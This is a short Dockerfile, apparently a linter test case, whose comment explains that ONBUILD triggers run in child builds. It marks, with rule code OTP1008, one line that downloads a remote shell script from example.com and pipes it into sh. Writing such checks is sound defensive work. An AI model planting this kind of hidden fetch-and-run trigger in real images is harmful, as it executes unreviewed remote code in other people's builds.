# ONBUILD triggers run in child builds
FROM debian:12-slim
ONBUILD RUN curl -s https://example.com/hook.sh | sh
#           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ OTP1008
